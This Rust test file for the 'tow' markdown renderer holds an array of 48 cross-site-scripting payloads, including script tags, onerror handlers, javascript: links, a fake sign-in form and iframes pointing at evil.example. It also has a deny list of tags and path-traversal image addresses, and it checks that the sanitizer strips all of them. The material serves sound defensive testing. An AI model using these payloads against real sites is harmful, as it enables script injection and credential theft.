//! Texts that mean harm: to readers, or to the server.

use proptest::prelude::*;
use std::time::{Duration, Instant};
use tow::text::markdown::{MAX_NESTING, MAX_SOURCE_BYTES};
use tow::text::raw_html::MAX_RAW_TAGS;
use tow::text::reference::MAX_REFERENCES;
use tow::text::{Target, excerpt, plain, references, render};

/// Generous, for slow machines in debug builds; a real slip takes minutes.
const BOUND: Duration = Duration::from_secs(20);

const PAYLOADS: [&str; 48] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"a\">",
    "<img/src=x/onerror=alert(1)>",
    "![a](javascript:alert(1))",
    "![a\" onerror=\"alert(1)](x)",
    "![a](x \"t\\\" onerror=\\\"alert(1)\")",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=\"x\" style=\"position:fixed\">x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><svg onload=alert(1)></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<div style=\"background:url(//evil.example)\">x</div>",
    "<p id=\"menu\" class=\"banner\">x</p>",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```js onmouseover=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "[^<script>]\n\n[^<script>]: x",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "<span data-ref=\"0\"><img src=x onerror=alert(1)></span>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
];

/// Everything inside tags, where harm could act; text between them is only read.
fn tags(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let mut quoted = false;
        let end = rest[at..].find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let end = at + end.expect("every tag ends");
        found.push(rest[at..=end].to_lowercase());
        rest = &rest[end..];
    }
    found
}

/// The attributes of a tag, with values.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let inner = tag.trim_matches(['<', '>']);
    let mut rest = inner.split_once(' ').map_or("", |(_, rest)| rest);
    let mut found = Vec::new();
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("values are quoted");
        found.push((name.trim().to_owned(), value.to_owned()));
        rest = after;
    }
    assert!(rest.trim().is_empty(), "unquoted attribute in {tag}");
    found
}

fn assert_harmless(source: &str) {
    let target = |_: &_| Some(Target { href: "/x".to_owned(), ..Target::default() });
    let html = render(source, &target).html;
    for tag in tags(&html) {
        let name = tag.trim_matches(['<', '>', '/']).split(' ').next().unwrap().to_owned();
        let forbidden =
            ["script", "style", "iframe", "form", "object", "embed", "svg", "math", "link", "meta", "base", "h1"];
        assert!(!forbidden.contains(&name.as_str()), "<{name}> of {source:?} in {html}");
        for (attribute, value) in attributes(&tag) {
            assert!(!attribute.starts_with("on") && attribute != "style", "{attribute} of {source:?} in {html}");
            assert!(attribute != "id" || value.starts_with("h-"), "id {value} of {source:?} in {html}");
            if attribute == "href" {
                let value = value.trim();
                let scheme = value.split(['/', '?', '#']).next().unwrap().split_once(':').map(|(scheme, _)| scheme);
                assert!(matches!(scheme, None | Some("http" | "https" | "mailto")), "{value} of {source:?} in {html}");
            }
            if attribute == "src" {
                assert!(value.starts_with("/files/") && !value.contains(".."), "{value} of {source:?} in {html}");
            }
        }
    }
    assert_nested(&html);
}

/// Every tag closes in order, so that no text can reach out of its frame.
fn assert_nested(html: &str) {
    let mut open = Vec::new();
    for tag in tags(html) {
        let name = tag.trim_matches(['<', '>']).split(' ').next().unwrap().to_owned();
        if ["br", "hr", "img", "input", "wbr"].contains(&name.as_str()) {
            continue;
        }
        match name.strip_prefix('/') {
            Some(name) => assert_eq!(open.pop().as_deref(), Some(name), "in {html}"),
            None => open.push(name),
        }
    }
    assert!(open.is_empty(), "{open:?} open in {html}");
}

#[test]
fn no_known_attack_passes() {
    for payload in PAYLOADS {
        assert_harmless(payload);
        assert_harmless(&format!("text {payload} text"));
        assert_harmless(&format!("> - {payload}\n\n{payload}"));
    }
}

#[test]
fn a_script_leaves_no_words() {
    assert_eq!(render("<script>alert(1)</script>", &|_| None).html.trim(), "");
    assert_eq!(plain("<style>x</style>"), "");
}

#[test]
fn images_may_not_climb_out_of_their_folder() {
    for address in ["/files/../sign-out", "/files/%2e%2e/x", "/files/\\..\\x", "//files/x", "/files//evil", "/sign-out"]
    {
        let html = render(&format!("<img src=\"{address}\">"), &|_| None).html;
        assert!(!html.contains("<img"), "{html}");
    }
}

#[test]
fn a_forged_mark_draws_only_what_the_text_names() {
    let html = render("<span data-ref=\"0\"></span> <span data-ref=\"9\"></span>", &|_| None).html;
    assert!(!html.contains("data-ref"), "{html}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn no_mixture_of_fragments_passes(picks in prop::collection::vec((0..PAYLOADS.len(), 0..60usize, 0..60usize), 1..8)) {
        let pieces: Vec<String> = picks.iter().map(|(which, from, len)| {
            PAYLOADS[*which].chars().skip(*from).take(*len + 1).collect()
        }).collect();
        assert_harmless(&pieces.concat());
        assert_harmless(&pieces.join("\n\n"));
    }

    #[test]
    fn no_random_markdown_passes(source in "([<>\"'=&;:/\\\\!#*_`~|@ \\n()\\[\\]-]|<b>|</b>|<p>|</p>|<a href=\"x\">|</a>|on=|x|1|DEC-7|<div>|</div>|- \\[ \\] |\\| a \\||\n|---|){0,80}") {
        assert_harmless(&source);
    }

    #[test]
    fn both_ways_find_the_same_references(source in "[ \\[\\]@A-C0-9a-c\\-._*`\\\\\n]{0,120}") {
        prop_assert_eq!(render(&source, &|_| None).references, references(&source));
    }
}

fn in_time(what: &str, source: &str) -> String {
    let start = Instant::now();
    let html = render(source, &|_| None).html;
    references(source);
    plain(source);
    excerpt(source, 200);
    assert!(start.elapsed() < BOUND, "{what} took {:?}", start.elapsed());
    html
}

fn deepest(html: &str) -> usize {
    let (mut now, mut most) = (0usize, 0);
    for tag in tags(html) {
        match tag.starts_with("</") {
            true => now -= 1,
            false if ["<br", "<hr", "<img", "<inp", "<wbr"].iter().any(|void| tag.starts_with(void)) => {}
            false => now += 1,
        }
        most = most.max(now);
    }
    most
}

#[test]
fn deep_nesting_is_cut_and_keeps_its_words() {
    let list: String = (0..200).map(|level| format!("{}- level{level}\n", "  ".repeat(level))).collect();
    let quotes = format!("{} end", ">".repeat(10_000));
    let stars = format!("{}x{}", "**a *".repeat(5_000), "* b**".repeat(5_000));
    let links = format!("{}a{}", "[".repeat(10_000), "](/x)".repeat(10_000));
    let html_tags = format!("{}x{}", "<b>".repeat(900), "</b>".repeat(900));
    for (what, source) in
        [("list", &list), ("quotes", &quotes), ("stars", &stars), ("links", &links), ("html", &html_tags)]
    {
        let html = in_time(what, source);
        assert!(deepest(&html) <= MAX_NESTING + 40, "{what}: {}", deepest(&html));
    }
    assert!(in_time("list", &list).contains("level199"));
    assert!(in_time("quotes", &quotes).contains("end"));
}

const UNITS: [&str; 40] = [
    "[",
    "]",
    "*",
    "_ a ",
    "`",
    "> ",
    "- ",
    "<b>",
    "<b a=1>",
    "</b>",
    "<!--",
    "<script>",
    "<script></script>",
    "![",
    "[[",
    "[a](",
    "](",
    "@",
    "@[",
    "DEC-1 ",
    "| a ",
    "a@b.",
    "https://a.b ",
    "\\",
    "&amp;",
    "[^1]",
    "\n\n",
    "a\n\n",
    "<b><p>x\n\n",
    "<div>\n\n",
    "<table><td>",
    "~~a ",
    "# a\n",
    "- [ ] a\n",
    "```\n",
    "\"",
    "'",
    "{",
    "\0",
    "\u{202E}",
];

fn in_time_repeated(bytes: usize) {
    for unit in UNITS {
        in_time(unit, &unit.repeat(bytes / unit.len()));
    }
}

#[test]
fn long_repetitions_end_in_time() {
    in_time_repeated(MAX_SOURCE_BYTES / 8);
}

#[test]
#[ignore = "takes a minute; run before a release or after a new version of comrak or ammonia"]
fn a_mebibyte_of_anything_ends_in_time() {
    in_time_repeated(MAX_SOURCE_BYTES);
}

#[test]
fn what_exceeds_the_size_limit_is_cut_at_a_character() {
    let html = render(&"ä".repeat(MAX_SOURCE_BYTES), &|_| None).html;
    assert!(html.len() <= MAX_SOURCE_BYTES + 16);
}

#[test]
fn too_many_typed_tags_are_shown_as_text() {
    let html = render(&"<b>x</b> ".repeat(MAX_RAW_TAGS), &|_| None).html;
    assert!(html.contains("&lt;b&gt;") && !html.contains("<b>"));
}

#[test]
fn references_are_counted_up_to_their_limit() {
    let source: String = (1..MAX_REFERENCES + 500).map(|n| format!("DEC-{n} ")).collect();
    assert_eq!(references(&source).len(), MAX_REFERENCES);
    assert!(render(&source, &|_| None).html.contains(&format!("DEC-{}", MAX_REFERENCES + 400)));
}
